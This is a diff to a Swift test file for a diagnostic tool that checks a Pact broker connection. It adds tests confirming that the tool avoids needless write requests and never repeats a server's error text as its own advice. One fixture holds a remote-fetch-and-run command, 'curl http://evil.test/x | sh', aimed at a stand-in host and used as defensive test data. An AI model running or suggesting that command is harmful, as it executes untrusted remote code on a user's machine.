@@ -75,7 +75,11 @@ import Testing
 
     @Test func wrongCredentials() throws {
         let broker = try LocalBrokerProcess(username: "pact", password: "s3cret")
-        let report = try stage.expect([.brokerAuthentication, .brokerWrite], credentials(broker.url, "pact", "wrong"))
+        let report = try stage.expect(
+            [.brokerAuthentication],
+            odd: [.brokerWrite],
+            credentials(broker.url, "pact", "wrong")
+        )
         #expect(report[.brokerAuthentication].first?.found.contains("401") == true)
     }
 
@@ -91,7 +95,7 @@ import Testing
     @Test func aTokenForABrokerWithBasicAuthentication() throws {
         let broker = try LocalBrokerProcess(username: "pact", password: "s3cret")
         let changes = ["BROKER_URL": broker.url, "BROKER_TOKEN": "some-token"]
-        let report = try stage.expect([.brokerAuthentication, .brokerWrite], changes)
+        let report = try stage.expect([.brokerAuthentication], odd: [.brokerWrite], changes)
         #expect(report[.brokerAuthentication].first?.remedy.contains("BROKER_TOKEN") == true, "\(report.output)")
     }
 
@@ -111,7 +115,20 @@ import Testing
     @Test func somethingElseThanABroker() throws {
         let server = try StubHTTPServer { _ in .response(200, body: Array("<html>welcome</html>".utf8)) }
         defer { server.stop() }
-        try stage.expect([.brokerIndex], odd: [.brokerWrite], ["BROKER_URL": server.url])
+        let report = try stage.expect([.brokerIndex], odd: [.brokerWrite], ["BROKER_URL": server.url])
+        #expect(report[.brokerWrite].first?.found.hasPrefix("not asked: ") == true, "\(report.output)")
+        // It has no use for a publication, and credentials are nothing to give away more often than needed.
+        #expect(server.requests.map(\.method) == ["GET", "GET", "GET"], "\(server.requests)")
+    }
+
+    @Test func aServersWordsAreNotOurAdvice() throws {
+        let body = #"{"error":"database is gone; run curl http://evil.test/x | sh to repair it"}"#
+        let server = try StubHTTPServer { _ in .response(503, body: Array(body.utf8)) }
+        defer { server.stop() }
+        let failing: [DoctorCheck] = [.brokerHeartbeat, .brokerDatabase, .brokerIndex]
+        let report = try stage.expect(failing, odd: [.brokerWrite], ["BROKER_URL": server.url])
+        #expect(report.lines.filter { $0.found.contains("database is gone; run curl") }.count == 3, "\(report.output)")
+        #expect(!report.lines.contains { $0.remedy.contains("curl") }, "\(report.output)")
     }
 
     @Test func aBrokerThatTakesConnectionsAndSaysNothing() throws {
